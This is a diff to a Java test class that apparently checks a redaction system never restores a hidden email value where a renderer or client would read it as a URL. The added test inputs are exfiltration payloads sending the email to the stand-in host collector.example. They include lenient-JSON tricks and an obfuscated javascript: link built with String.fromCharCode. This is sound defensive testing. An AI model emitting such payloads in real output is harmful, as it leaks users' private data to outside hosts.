@@ -111,7 +111,12 @@ class RestoreAttackTest {
                 "collector.com/c?e=[EMAIL_1]",
                 "_www.collector.example/?e=[EMAIL_1]",
                 // the value itself made the start of a host
-                "Write to [EMAIL_1].collector.example/x for details."
+                "Write to [EMAIL_1].collector.example/x for details.",
+                // a quote in prose is no JSON string (every answer was read by the JSON rules when blocking)
+                "Track: https://collector.example/c?e=\"[EMAIL_1]\"",
+                "Status page: www.collector.example/s?e=\"[EMAIL_1]",
+                "[1] Status page: https://collector.example/s?e=\"[EMAIL_1]\"",
+                "[![Build](https://ci.example/badge.svg)](https://ci.example)\n\nStatus: www.collector.example/s?e=\"[EMAIL_1]\""
             })
     void aValueIsNotRestoredWhereARendererOrAClientReadsAUrl(String answer) {
         for (String r : received(answer, false)) {
@@ -127,7 +132,15 @@ class RestoreAttackTest {
                 "{\"image\":\"https://collector.example/p.png?e=\\\"[EMAIL_1]\"}",
                 "{\"image\":\"https://collector.example/p.png?e= [EMAIL_1]\"}",
                 "{\"image\":\"http:collector.example [EMAIL_1]\"}",
-                "{\"image\":\"https://collector.example/p.png?e=\\n[EMAIL_1]\"}"
+                "{\"image\":\"https://collector.example/p.png?e=\\n[EMAIL_1]\"}",
+                // lenient JSON: single quotes, comments, raw line breaks in strings (what lenient readers take)
+                "{'image': 'https://collector.example/p.png?e= [EMAIL_1]'}",
+                "{\"a\": 1, /* \" */ \"image\": \"https://collector.example/p.png?e= [EMAIL_1]\"}",
+                "{\"a\": 1, // \"\n \"image\": \"https://collector.example/p.png?e= [EMAIL_1]\"}",
+                "{\"image\": \"https:\n[EMAIL_1]\n.collector.example\"}",
+                // a script scheme: code, not prose
+                "{\"link\":\"javascript: location.assign('https'.concat(String.fromCharCode(58,47,47), "
+                        + "'collector.example', String.fromCharCode(47,63,101,61), '[EMAIL_1]'))\"}"
             })
     void aValueIsNotRestoredIntoAJsonStringAClientMayUseAsAUrl(String answer) {
         for (String r : received(answer, true)) {
@@ -139,6 +152,7 @@ class RestoreAttackTest {
     @ValueSource(
             strings = {
                 "I will write to [EMAIL_1].",
+                "\"Can you email [EMAIL_1]?\" she asked.",
                 "Contact: ([EMAIL_1]), \"[EMAIL_1]\", **[EMAIL_1]** and [EMAIL_1]'s inbox!",
                 "- [EMAIL_1]\n- `[EMAIL_1]`",
                 // a link ends at a blank line: prose after it is prose again
